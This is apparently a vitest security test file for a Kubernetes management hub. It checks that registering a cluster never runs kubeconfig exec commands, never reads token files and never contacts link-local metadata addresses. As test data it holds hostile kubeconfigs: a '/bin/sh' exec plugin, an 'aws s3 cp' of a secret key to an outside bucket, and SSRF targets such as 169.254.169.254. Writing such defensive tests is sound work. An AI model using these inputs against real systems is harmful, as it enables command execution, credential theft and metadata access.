// What `POST /api/v1/clusters` trusts in a kubeconfig (issue 12): it runs no program and reads no file of the
// hub's machine, contacts no denied address, and never echoes what a remote server answered. A real listening
// hub over SQLite; no control plane is needed: every case is refused before one would be.
import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { helmBin } from '../engine/testing/runner.js';
import { Hub } from '../hub/index.js';
import { SqliteBackend } from '../store/testing/backends.js';
import type { Problem } from './problem.js';
import { startTestHub, type TestHub } from './testing/server.js';

const SECRET = 'AKIAIOSFODNN7EXAMPLE-metadata-credentials';

function kubeconfig(server: string, userLines: string[] = ['token: abc']): string {
  return [
    'apiVersion: v1',
    'kind: Config',
    'clusters:',
    '- name: target',
    // Plain http needs insecure-skip-tls-verify in client-node; the test servers speak http.
    `  cluster: { server: "${server}", insecure-skip-tls-verify: true }`,
    'users:',
    '- name: alice',
    '  user:',
    ...userLines.map((l) => `    ${l}`),
    'contexts:',
    '- name: ctx',
    '  context: { cluster: target, user: alice }',
    'current-context: ctx',
    '',
  ].join('\n');
}

const problemOf = (json: unknown) => json as Problem;

describe('cluster registration trusts a kubeconfig as data only', () => {
  const backend = new SqliteBackend();
  let t: TestHub;
  let remote: Server;
  let remoteUrl = '';
  const dir = mkdtempSync(join(tmpdir(), 'cluster-trust-'));

  beforeAll(async () => {
    await backend.setup();
    t = await startTestHub(backend);
    // Not an API server: a proxy or metadata endpoint that answers with an HTML page holding a secret.
    remote = createServer((req, res) => {
      const status = req.url?.startsWith('/version') ? 502 : 500;
      res.writeHead(status, { 'content-type': 'text/html' });
      res.end(`<html><body>${SECRET}</body></html>`);
    });
    await new Promise<void>((resolve) => remote.listen(0, '127.0.0.1', resolve));
    remoteUrl = `http://127.0.0.1:${(remote.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await t.close();
    await new Promise((resolve) => remote.close(resolve));
    await backend.teardown();
  });

  it('an exec kubeconfig is 400 problem+json naming the user, and its command never runs', async () => {
    const marker = join(dir, 'exec-ran');
    const res = await t.api('POST', '/api/v1/clusters', {
      body: {
        name: 'exec',
        kubeconfig: kubeconfig(remoteUrl, [
          'exec:',
          '  apiVersion: client.authentication.k8s.io/v1',
          '  command: /bin/sh',
          `  args: ["-c", "touch ${marker}"]`,
        ]),
      },
    });
    expect(res.status).toBe(400);
    expect(res.contentType).toContain('application/problem+json');
    expect(problemOf(res.json).code).toBe('KUBECONFIG_INVALID');
    expect(problemOf(res.json).detail).toMatch(
      /^kubeconfig for cluster "exec": user "alice": exec runs "\/bin\/sh" and the hub runs no program/,
    );
    expect(existsSync(marker)).toBe(false);
    expect((await t.api('GET', '/api/v1/clusters/exec')).status).toBe(404);
  });

  it('a token-file is refused and the file is neither read nor sent', async () => {
    const secretFile = join(dir, 'secret.key');
    writeFileSync(secretFile, SECRET);
    const res = await t.api('POST', '/api/v1/clusters', {
      body: { name: 'tokenfile', kubeconfig: kubeconfig(remoteUrl, [`token-file: ${secretFile}`]) },
    });
    expect(res.status).toBe(400);
    expect(problemOf(res.json).detail).toContain(`user "alice": token-file names a file (${secretFile})`);
    expect(res.text).not.toContain(SECRET);
  });

  it('a server answering non-2xx HTML: the answer keeps the status and the URL, never the body', async () => {
    const res = await t.api('POST', '/api/v1/clusters', {
      body: { name: 'html', kubeconfig: kubeconfig(remoteUrl) },
    });
    expect(res.status).toBe(422);
    expect(problemOf(res.json).code).toBe('CLUSTER_UNREACHABLE');
    expect(problemOf(res.json).detail).toBe(
      `cluster "html": HTTP 502 from ${remoteUrl}/version (not a Kubernetes API server answer; its body is not shown)`,
    );
    expect(res.text).not.toContain(SECRET);
  });

  it.each(['http://2852039166/', 'http://169.254.169.254', 'http://[::ffff:169.254.169.254]:80'])(
    'server %s (link-local metadata) is refused by default, naming the URL and the setting',
    async (server) => {
      const res = await t.api('POST', '/api/v1/clusters', {
        body: { name: 'meta', kubeconfig: kubeconfig(server) },
      });
      expect(res.status).toBe(400);
      expect(problemOf(res.json).detail).toMatch(
        /^cluster "meta": server \S+ (\(\S+\) )?is a link-local address, which this hub does not contact \(STRATA_OUTBOUND_DENY=link-local; /,
      );
    },
  );

  it('a proxy-url in a denied range is refused too', async () => {
    const text = kubeconfig(remoteUrl).replace(
      `server: "${remoteUrl}"`,
      `server: "${remoteUrl}", proxy-url: "http://169.254.169.254:3128"`,
    );
    const res = await t.api('POST', '/api/v1/clusters', { body: { name: 'proxy', kubeconfig: text } });
    expect(res.status).toBe(400);
    expect(problemOf(res.json).detail).toContain(
      'cluster "proxy": proxy-url http://169.254.169.254:3128 is a link-local address',
    );
  });

  it('a kubeconfig stored before these rules does not start on a hub restart, and its plugin never runs', async () => {
    const marker = join(dir, 'stored-exec-ran');
    await t.store.clusters.create({
      name: 'legacy',
      kubeconfig: kubeconfig(remoteUrl, ['exec:', '  command: /usr/bin/touch', `  args: ["${marker}"]`]),
    });
    const logged: string[] = [];
    const hub = await Hub.open({ store: t.store, helmBin: helmBin(), log: (line) => logged.push(line) });
    try {
      expect(logged.join('\n')).toContain(
        'strata: cluster legacy could not start: the stored kubeconfig of cluster "legacy" is refused by the ' +
          'hub\'s rules now in force, so the cluster is not started (kubeconfig for cluster "legacy": user ' +
          '"alice": exec runs "/usr/bin/touch"',
      );
      expect(existsSync(marker)).toBe(false);
    } finally {
      await hub.close();
      await t.store.clusters.delete('legacy');
    }
  });
});

describe('a stored kubeconfig the rules now refuse', () => {
  const backend = new SqliteBackend();
  beforeAll(async () => {
    await backend.setup();
  });
  afterAll(async () => {
    await backend.teardown();
  });

  it("is the cluster's status, naming the cluster, the user, the refused argument and what to do", async () => {
    // Stored when any argument of an allowed plugin was taken; since then `aws` runs only as `aws eks get-token`.
    const opened = await backend.open();
    await opened.store.clusters.create({
      name: 'legacy-aws',
      kubeconfig: kubeconfig('https://127.0.0.1:1', [
        'exec:',
        '  apiVersion: client.authentication.k8s.io/v1beta1',
        '  command: aws',
        '  args: ["s3", "cp", "/var/lib/strata/secret.key", "s3://elsewhere/"]',
      ]),
    });
    const logged: string[] = [];
    const hub = await Hub.open({
      store: opened.store,
      helmBin: helmBin(),
      allowedExecPlugins: ['aws'],
      log: (line) => logged.push(line),
    });
    try {
      const expected =
        'the stored kubeconfig of cluster "legacy-aws" is refused by the hub\'s rules now in force, so the ' +
        'cluster is not started (kubeconfig for cluster "legacy-aws": user "alice": exec args[0] is not part of ' +
        'the command';
      const view = await hub.getCluster('legacy-aws');
      expect(view).toMatchObject({ name: 'legacy-aws', reachable: false });
      expect(view.error).toContain(expected);
      expect(view.error).toContain(
        'Give it a kubeconfig the hub accepts: `strata cluster rm legacy-aws` (what it installed stays) and ' +
          '`strata cluster add legacy-aws --kubeconfig FILE`',
      );
      // The same in the list, and the hub's log says it once, with no stack.
      expect((await hub.listClusters()).find((c) => c.name === 'legacy-aws')?.error).toBe(view.error);
      expect(logged.filter((l) => l.includes('legacy-aws'))).toEqual([
        `strata: cluster legacy-aws could not start: ${view.error ?? ''}`,
      ]);
    } finally {
      await hub.close();
    }
  });
});

describe('chart sources are outbound targets too', () => {
  const backend = new SqliteBackend();
  beforeAll(async () => {
    await backend.setup();
  });
  afterAll(async () => {
    await backend.teardown();
  });

  const profile = (chart: string) =>
    [
      'apiVersion: strata.dev/v1alpha1',
      'kind: ClusterProfile',
      'metadata: { name: remote }',
      'spec:',
      '  version: 1.0.0',
      '  type: add-on',
      '  packs:',
      `    - { name: app, layer: addon, version: 1.0.0, type: helm, chart: ${chart} }`,
      '',
    ].join('\n');

  it('a repository or registry in a denied range is a positioned issue; allowed, the same profile is valid', async () => {
    const opened = await backend.open();
    const strict = await Hub.open({ store: opened.store, helmBin: helmBin(), outboundDeny: ['loopback'] });
    const open = await Hub.open({ store: opened.store, helmBin: helmBin(), outboundDeny: [] });
    try {
      const repo = profile('{ repo: "http://localhost:8879/charts", name: app }');
      expect(await strict.validateProfile({ yaml: repo, file: 'remote.yaml' })).toEqual([
        expect.objectContaining({
          file: 'remote.yaml',
          line: 8,
          path: 'spec.packs[0].chart.repo',
          message: expect.stringMatching(
            /^chart source "http:\/\/localhost:8879\/charts" reaches (127\.0\.0\.1|::1), in the loopback range the hub does not contact \(STRATA_OUTBOUND_DENY=loopback\)$/,
          ) as unknown,
        }),
      ]);
      const oci = profile('{ oci: "oci://localhost:5000/charts/app" }');
      expect((await strict.validateProfile({ yaml: oci, file: 'remote.yaml' })).map((i) => i.path)).toEqual([
        'spec.packs[0].chart.oci',
      ]);
      expect(await open.validateProfile({ yaml: repo, file: 'remote.yaml' })).toEqual([]);
    } finally {
      await strict.close();
      await open.close();
    }
  });
});
